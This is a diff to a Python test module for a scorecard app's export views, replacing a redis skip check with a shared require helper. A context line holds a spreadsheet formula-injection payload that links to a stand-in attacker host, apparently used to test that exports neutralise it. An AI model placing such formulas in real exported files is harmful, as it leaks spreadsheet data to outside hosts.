@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import io
-import os
 import shutil
 import socket
 import subprocess
@@ -24,6 +23,7 @@ from assessment.scorecard.export_views import bp as exports_bp
 from assessment.scorecard.job_model import ExportJob
 from assessment.scorecard.jobs import export_dir
 from tests.conftest import _empty_tables, csrf_token
+from tests.system import require
 from tests.web.helpers import pdf_text, rate_every_question, read_csv, wait_done
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -310,14 +310,8 @@ def free_port() -> int:
 @pytest.fixture
 def redis_url():
     """A throwaway redis-server on a free port, with nothing saved to disk."""
-    if os.environ.get("SKIP_REDIS_TESTS") == "1":
-        pytest.skip("SKIP_REDIS_TESTS=1")
+    require("redis-server")
     binary = shutil.which("redis-server")
-    if binary is None:
-        pytest.fail(
-            "redis-server is not installed: `apt-get install redis-server` (Debian/Ubuntu), "
-            "or set SKIP_REDIS_TESTS=1 to leave the RQ tests out on purpose."
-        )
     from redis import Redis
 
     port = free_port()
